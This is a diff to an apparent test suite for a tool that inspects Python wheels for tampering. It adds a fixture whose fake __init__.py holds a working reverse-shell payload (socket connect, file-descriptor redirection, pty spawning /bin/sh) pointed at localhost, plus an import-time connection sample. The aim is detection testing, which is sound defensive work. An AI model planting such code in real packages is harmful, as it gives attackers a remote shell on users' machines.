@@ -206,6 +206,17 @@ TAMPERED_WHEELS: list[tuple[str, dict[str, str | bytes], str]] = [
         "inspect-credential-exfil",
     ),
     (
+        "reverse shell in __init__.py",
+        {
+            "demo/__init__.py": "import os, pty, socket\n"
+            "s = socket.socket()\n"
+            "s.connect(('127.0.0.1', 9))\n"
+            "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
+            "pty.spawn('/bin/sh')\n"
+        },
+        "inspect-reverse-shell",
+    ),
+    (
         "connects when imported",
         {"demo/__init__.py": "import socket\nsocket.create_connection(('127.0.0.1', 9))\n"},
         "inspect-import-time",
